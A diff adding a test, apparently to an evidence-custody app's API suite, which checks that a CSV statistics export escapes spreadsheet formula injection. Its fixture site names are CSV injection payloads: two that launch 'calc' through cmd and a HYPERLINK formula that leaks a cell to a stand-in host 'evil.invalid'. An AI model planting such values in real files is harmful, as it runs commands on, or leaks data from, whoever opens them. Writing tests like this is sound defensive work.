@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { given } from '../support/given';
 import { startTestApp, TestApp } from '../support/test-app';
 
@@ -63,5 +64,30 @@ describe('statistics', () => {
     expect((await (await custody.as('auditor')).get('/statistics?year=1850').expect(400)).body.fields).toEqual([
       { field: 'year', problem: expect.stringMatching(/not be less than 2000/) },
     ]);
+  });
+
+  it('neutralises every cell a spreadsheet would run as a formula, read back by an independent CSV parser', async () => {
+    const admin = await custody.token('admin');
+    const names = {
+      INCC: '@SUM(1+9)*cmd|calc',
+      OCSC: '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")',
+      'TPI-BRU': '-2+3+cmd|\' /C calc\'!A0',
+    };
+    for (const [code, name] of Object.entries(names)) await custody.http().patch(`/sites/${code}`).auth(admin, { type: 'bearer' }).send({ name }).expect(200);
+    const csv = (await (await custody.as('auditor')).get('/statistics.csv').expect(200)).text;
+    const parsed = Papa.parse<string[]>(csv.trim(), { delimiter: ',', newline: '\r\n' });
+    expect(parsed.errors).toEqual([]);
+    const nameOf = Object.fromEntries(parsed.data.slice(1).map((row) => [row[1], row[2]]));
+    expect(nameOf).toMatchObject({
+      INCC: "'@SUM(1+9)*cmd|calc",
+      OCSC: `'=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")`,
+      'TPI-BRU': "'-2+3+cmd|' /C calc'!A0",
+      'POL-BRU': 'Evidence room, Brussels police zone',
+    });
+    // numbers stay numbers, and no cell of the file starts a formula
+    for (const row of parsed.data.slice(1)) {
+      expect(row[0]).toMatch(/^\d{4}$/);
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
   });
 });
